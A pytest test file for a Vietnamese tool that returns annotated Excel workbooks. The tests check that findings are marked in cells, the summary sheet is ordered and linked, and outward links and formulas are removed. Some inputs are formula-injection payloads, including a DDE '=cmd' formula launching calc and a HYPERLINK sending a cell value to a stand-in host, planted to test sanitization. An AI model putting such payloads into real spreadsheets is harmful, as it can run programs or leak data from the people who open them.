"""One returned workbook: marks in the right cells, the first sheet in the right order, nothing that runs or leads out, the same bytes again."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook import Workbook

from sotay.reports.returned.job import KEEP, LIST, NEW, REBUILD, STAYED, Found, Job, Letter, Mark, Mended
from sotay.reports.returned.looks import COLOURS
from sotay.reports.returned.writing import CHANGED, NOT_KEPT, workbook_bytes

MADE_ON = "2026-09-30T00:00:00Z"
BAD_DAY = Mark("Bảng", 5, "C", "error", "Ngày tiêm", "31/06/2026", "Tháng 06 không có ngày 31.", "Ghi theo dạng ngày/tháng/năm.", "NGAY-KHONG-CO", STAYED, 2, "+0,8 Chuẩn hóa")
BAD_DAY_TOO = Mark("Bảng", 4, "C", "error", "Ngày tiêm", "32/06/2026", "Không đọc được thành ngày.", "Ghi theo dạng ngày/tháng/năm.", "NGAY-KHONG-CO", NEW, 2, "+0,8 Chuẩn hóa")
TWICE = Mark("Bảng", 6, "", "warning", "", "", "Có thể trùng với dòng 4.", "Giữ một dòng.", "CH-05b", NEW)
LACKING = Mark("Bảng", None, "", "warning", "Thôn", "", "Tệp không có cột “Thôn”.", "Thêm cột này khi kết xuất.", "THIEU-COT", NEW)
TABLE = Found("Bảng", 3, 3, "A", "D", 6)
LETTER = Letter("Tiêm phòng chó", ("Đơn vị: Trạm thú y.", "Tệp: chó.xlsx."))


def own_book(**more) -> Workbook:
    """A unit's workbook: title, heading in row 3, three rows."""
    book = Workbook()
    sheet = book.active
    sheet.title = "Bảng"
    sheet["A1"] = "DANH SÁCH"
    sheet["A1"].font = Font(name="Arial", size=20, italic=True)
    for row, line in enumerate((["STT", "Mã", "Ngày tiêm", "Phí"], [1, "=1+1", "32/06/2026", 1500.5], [2, "B", "31/06/2026", "=D4*2"], [3, "C", "01/06/2026", "=[1]Khac!A1"]), 3):
        for column, value in enumerate(line, 1):
            sheet.cell(row, column, value)
    sheet["B4"].data_type = "s"
    sheet["D4"].number_format = "#,##0.00"
    sheet.column_dimensions["B"].width = 33
    return book


def written(book: Workbook, folder: Path, **more) -> Job:
    content = io.BytesIO()
    book.save(content)
    return job_of(content.getvalue(), folder / "chó.xlsx", **({"container": "xlsx", "mode": KEEP} | more))


def job_of(data: bytes, path: Path, **more) -> Job:
    path.write_bytes(data)
    wanted = {"letter": LETTER, "made_on": MADE_ON, "path": path, "sha256": hashlib.sha256(data).hexdigest(), "marks": (BAD_DAY_TOO, BAD_DAY, TWICE, LACKING), "tables": (TABLE,)} | more
    return Job(**wanted)


def opened(job: Job) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes(job)))


def colour(cell) -> str:
    return cell.fill.start_color.rgb if cell.fill.fill_type else ""


def texts(sheet) -> list[str]:
    return [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]


def test_findings_are_marked_in_their_cells(tmp_path):
    sheet = opened(written(own_book(), tmp_path))["Bảng"]
    marked = {c.coordinate: colour(c) for row in sheet.iter_rows() for c in row if colour(c)}
    assert marked == {"C4": COLOURS["error"], "C5": COLOURS["error"], "A6": COLOURS["warning"]}
    assert sheet["C5"].comment.text == "LỖI: Tháng 06 không có ngày 31.\nCách sửa: Ghi theo dạng ngày/tháng/năm.\nQuy tắc: NGAY-KHONG-CO"
    assert {c.coordinate for row in sheet.iter_rows() for c in row if c.comment} == {"C4", "C5", "A6"}


def test_the_first_sheet_lists_them_in_the_order_given_with_links(tmp_path):
    book = opened(written(own_book(), tmp_path))
    sheet = book.worksheets[0]
    assert (sheet.title, book.active.title) == ("Lỗi cần sửa", "Lỗi cần sửa")
    top = next(r for r in range(1, 20) if sheet.cell(r, 1).value == "STT")
    assert [c.value for c in sheet[top]] == ["STT", "Trang tính", "Ô", "Cột", "Giá trị hiện tại", "Lỗi", "Cách sửa", "Mức độ", "Số chỗ cùng lỗi", "Điểm tăng nếu sửa hết", "Quy tắc", "Tình trạng"]
    assert [[c.value for c in sheet[top + n]] for n in (1, 2)] == [
        [1, "Bảng", "C4", "Ngày tiêm", "32/06/2026", "Không đọc được thành ngày.", "Ghi theo dạng ngày/tháng/năm.", "Lỗi", 2, "+0,8 Chuẩn hóa", "NGAY-KHONG-CO", "mới"],
        [2, "Bảng", "C5", "Ngày tiêm", "31/06/2026", "Tháng 06 không có ngày 31.", "Ghi theo dạng ngày/tháng/năm.", "Lỗi", 2, None, "NGAY-KHONG-CO", "còn lại từ lần gửi trước"],
    ]
    assert [(sheet.cell(top + n, 3).value, sheet.cell(top + n, 4).value) for n in (3, 4)] == [("A6", "cả dòng"), ("cả cột", "Thôn")]
    assert [sheet.cell(top + n, 3).hyperlink.location for n in (1, 2, 3, 4)] == ["'Bảng'!C4", "'Bảng'!C5", "'Bảng'!A6", "'Bảng'!A3"]
    assert (sheet.auto_filter.ref, sheet.freeze_panes, sheet.print_title_rows) == (f"A{top}:L{top + 4}", f"A{top + 1}", f"${top}:${top}")
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight, str(sheet.page_setup.paperSize)) == ("landscape", 1, 0, "9")
    assert sheet.column_dimensions["B"].hidden and not sheet.column_dimensions["J"].hidden
    assert [s.title for s in book.worksheets if s.sheet_view.tabSelected] == ["Lỗi cần sửa"]


def test_the_unit_s_formats_and_own_formulas_stay_and_text_stays_text(tmp_path):
    sheet = opened(written(own_book(), tmp_path))["Bảng"]
    assert (sheet["A1"].font.name, sheet["A1"].font.italic, sheet["D4"].number_format, sheet.column_dimensions["B"].width) == ("Arial", True, "#,##0.00", 33)
    assert (sheet["D5"].value, sheet["D5"].data_type) == ("=D4*2", "f")
    assert (sheet["B4"].value, sheet["B4"].data_type) == ("=1+1", "s")


def test_formulas_and_links_that_lead_out_of_the_file_are_gone_and_that_is_said(tmp_path):
    book = own_book()
    book["Bảng"]["B5"] = '=HYPERLINK("http://x.test/"&A1,"xem")'
    book["Bảng"]["B6"] = "=cmd|'/c calc'!A0"
    book["Bảng"]["B3"].hyperlink = "http://x.test/"
    job = written(book, tmp_path)
    made = opened(job)
    sheet = made["Bảng"]
    assert [sheet[a].value for a in ("B5", "B6", "D6")] == [None, None, None]
    assert sheet["B3"].hyperlink is None and sheet["B3"].value == "Mã"
    assert "Công thức, liên kết lấy từ tệp khác hoặc từ mạng đã thay bằng giá trị đã lưu." in texts(made.worksheets[0])
    with zipfile.ZipFile(io.BytesIO(workbook_bytes(job))) as archive:
        assert not [n for n in archive.namelist() if b"x.test" in archive.read(n) or b'TargetMode="External"' in archive.read(n)]


def test_hidden_rows_and_columns_with_findings_are_shown_and_that_is_said(tmp_path):
    book = own_book()
    book["Bảng"].column_dimensions["C"].hidden = True
    book["Bảng"].row_dimensions[5].hidden = True
    book["Bảng"].column_dimensions["D"].hidden = True
    made = opened(written(book, tmp_path))
    sheet = made["Bảng"]
    assert (sheet.column_dimensions["C"].hidden, sheet.row_dimensions[5].hidden, sheet.column_dimensions["D"].hidden) == (False, False, True)
    assert any(t.endswith("Trang “Bảng”: đã bỏ ẩn dòng 5 và cột C vì có chỗ phải sửa.") for t in texts(made.worksheets[0]))


def test_a_finding_inside_a_merge_is_marked_in_its_first_cell(tmp_path):
    book = own_book()
    book["Bảng"]["C5"].value = None
    book["Bảng"].merge_cells("C4:C5")
    made = opened(written(book, tmp_path, marks=(BAD_DAY,)))
    assert made["Bảng"]["C4"].comment.text.startswith("LỖI: Tháng 06")
    assert [c.hyperlink.location for row in made.worksheets[0].iter_rows() for c in row if c.hyperlink] == ["'Bảng'!C4"]


def test_a_comment_of_the_unit_is_kept_below_ours(tmp_path):
    book = own_book()
    book["Bảng"]["C5"].comment = Comment("hỏi lại anh Tư", "Văn thư")
    assert opened(written(book, tmp_path))["Bảng"]["C5"].comment.text.endswith("\n\nGhi chú có sẵn: hỏi lại anh Tư")


def test_a_returned_workbook_sent_again_loses_the_old_marks(tmp_path):
    book = own_book()
    book["Bảng"]["D5"].fill = PatternFill("solid", start_color=COLOURS["error"])
    first = workbook_bytes(written(book, tmp_path))
    again = opened(job_of(first, tmp_path / "lại.xlsx", container="xlsx", mode=KEEP, marks=(TWICE,)))
    assert again.sheetnames == ["Lỗi cần sửa", "Bảng"]
    assert {c.coordinate for row in again["Bảng"].iter_rows() for c in row if colour(c)} == {"A6", "D5"}
    assert {c.coordinate for row in again["Bảng"].iter_rows() for c in row if c.comment} == {"A6"}


@pytest.mark.parametrize(("mode", "container"), [(KEEP, "xlsx"), (REBUILD, "xlsx"), (LIST, "")])
def test_the_same_job_gives_the_same_bytes(tmp_path, mode, container):
    job = written(own_book(), tmp_path, mode=mode, container=container)
    assert workbook_bytes(job) == workbook_bytes(job)


def test_a_text_file_is_rebuilt_with_every_cell_at_its_address_and_as_text(tmp_path):
    data = "Mã;Họ tên;Ngày\n007;=cmd|x;31/06/2026\n008;@b;1/6/2026\n".encode()
    marks = (Mark("", 2, "C", "error", "Ngày", "31/06/2026", "Không có ngày này.", "Sửa ngày.", "NGAY-KHONG-CO"),)
    made = opened(job_of(data, tmp_path / "a.csv", container="csv", mode=REBUILD, marks=marks, tables=(Found("", 1, 1, "A", "C", 3),)))
    sheet = made["Dữ liệu"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["Mã", "Họ tên", "Ngày"], ["007", "=cmd|x", "31/06/2026"], ["008", "@b", "1/6/2026"]]
    assert {c.data_type for row in sheet.iter_rows() for c in row} == {"s"}
    assert (sheet["B2"].quotePrefix, sheet["B3"].quotePrefix, sheet["A1"].font.bold, sheet["A2"].font.bold, sheet.freeze_panes) == (True, True, True, False, "A2")
    assert (colour(sheet["C2"]), sheet["C2"].comment.text.split("\n")[0]) == (COLOURS["error"], "LỖI: Không có ngày này.")


def test_what_openpyxl_cannot_keep_is_rebuilt_and_that_is_said(tmp_path):
    data = "STT;Mã;Ngày tiêm\n1;A;32/06/2026\n".encode()
    mark = Mark("", 2, "C", "error", "Ngày tiêm", "32/06/2026", "Sai.", "Sửa.", "KIEU-NGAY")
    made = opened(job_of(data, tmp_path / "a.xlsx", container="xlsx", mode=KEEP, marks=(mark,), tables=(Found("", 1, 1, "A", "C", 2),)))
    assert colour(made["Dữ liệu"]["C2"]) == COLOURS["error"]
    assert any(NOT_KEPT in t for t in texts(made.worksheets[0]))


def test_a_file_changed_since_it_was_read_is_only_listed(tmp_path):
    job = written(own_book(), tmp_path)
    job.path.write_bytes(job.path.read_bytes() + b" ")
    made = opened(job)
    assert made.sheetnames == ["Lỗi cần sửa"]
    assert CHANGED in texts(made.worksheets[0])
    assert "dòng 5" in texts(made.worksheets[0])


def test_values_and_words_that_look_like_formulas_stay_text(tmp_path):
    mark = Mark("Bảng", 5, "C", "warning", "=cột", "=1+1", "-sai", "+sửa", "CONG-THUC")
    made = opened(written(own_book(), tmp_path, marks=(mark,), letter=Letter("=x", ("@y",), ("=z",), (Mended("-a", "Đã hỏng.", 3),), ("+n",))))
    assert {c.data_type for row in made.worksheets[0].iter_rows() for c in row if c.value is not None} == {"s", "n"}
    assert "Đã sửa so với lần trước (3 chỗ)" in texts(made.worksheets[0])


def test_only_listed_findings_stand_in_the_table_and_all_are_coloured(tmp_path):
    marks = tuple(Mark("Bảng", r, "C", "error", "Ngày tiêm", "x", "Sai.", "Sửa.", "KIEU-NGAY", alike=3, listed=r < 6, comment=r < 5) for r in (4, 5, 6))
    made = opened(written(own_book(), tmp_path, marks=marks))
    sheet = made["Bảng"]
    assert [colour(sheet[f"C{r}"]) for r in (4, 5, 6)] == [COLOURS["error"]] * 3
    assert [bool(sheet[f"C{r}"].comment) for r in (4, 5, 6)] == [True, False, False]
    assert [c.value for c in made.worksheets[0]["C"] if c.hyperlink] == ["C4", "C5"]
    assert "… và 1 chỗ nữa cùng các lỗi trên: đã tô màu trong bảng, không liệt kê hết ở đây." in texts(made.worksheets[0])


def test_a_name_that_holds_what_looks_like_a_letter_s_code_is_not_cut(tmp_path):
    # LibreOffice reads "_xa_" as a line break, Excel does not; both read "_x005F_" as the low line itself.
    job = written(own_book(), tmp_path, letter=Letter("Bảng", ("Tệp: bao_cao_xa_hoi.xlsx.",)))
    with zipfile.ZipFile(io.BytesIO(workbook_bytes(job))) as book:
        sheets = "".join(book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/sheet") or n == "xl/sharedStrings.xml")
    assert "bao_cao_x005F_xa_hoi.xlsx" in sheets


def test_long_texts_of_a_rebuilt_sheet_have_rows_high_enough_and_its_heading_is_printed_on_every_page(tmp_path):
    path = tmp_path / "bảng.csv"
    path.write_text("Mã;Ghi chú\n1;ngắn\n2;" + "một đoạn dài " * 12 + "\n", encoding="utf-8")
    sheet = opened(job_of(path.read_bytes(), path, mode=REBUILD, container="csv", tables=(Found("", 1, 1, "A", "B", 3),), marks=())).worksheets[1]
    assert sheet.row_dimensions[2].height is None and sheet.row_dimensions[3].height > 40
    assert (sheet.page_setup.orientation, sheet.print_title_rows) == ("landscape", "$1:$1")
